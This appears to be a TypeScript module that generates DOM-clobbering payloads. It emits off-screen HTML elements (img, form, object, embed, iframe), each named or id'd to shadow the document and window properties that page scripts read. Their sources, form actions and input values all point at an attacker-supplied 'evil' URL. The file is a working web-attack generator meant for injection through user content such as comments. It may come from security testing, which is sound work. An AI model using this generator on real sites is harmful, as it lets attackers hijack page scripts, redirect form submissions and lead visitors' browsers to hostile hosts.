/** The elements whose names a document and a window answer to. */
export const KINDS = ['img', 'form', 'object', 'embed', 'iframe'] as const;
export type Kind = (typeof KINDS)[number];

/** What is read of a thing that has been got by its name: a form has fields of these names first. */
const FIELDS = ['src', 'dataset', 'v', 'q', 'lang', 'style', 'append', 'closest', 'call', 'length'];

export interface Clobbering {
  readonly kind: Kind;
  /** One element for each. */
  readonly names: readonly string[];
  /** Where the page would have been led. */
  readonly evil: string;
}

/**
 * Elements that a page's readers may put on it (images and forms in a comment, say), which stand for
 * what scripts read of the document and of the window by those names.
 */
export function clobbering({ kind, names, evil }: Clobbering): string {
  const fields = FIELDS.map((name) => `<input name="${name}" value="${evil}/bait/field">`).join('');
  const element = (name: string) => {
    const bait = `name="${name}" id="${name}" data-mode="inline" src="${evil}/bait/${name}"`;
    if (kind === 'form') return `<form ${bait} action="${evil}/bait">${fields}</form>`;
    if (kind === 'object') return `<object ${bait} type="image/png"></object>`;
    if (kind === 'embed') return `<embed ${bait} type="image/png">`;
    return kind === 'iframe' ? `<iframe ${bait}></iframe>` : `<img ${bait}>`;
  };
  // Out of the way of clicks.
  return `<div style="position: fixed; top: -9999px">${names.map(element).join('')}</div>`;
}
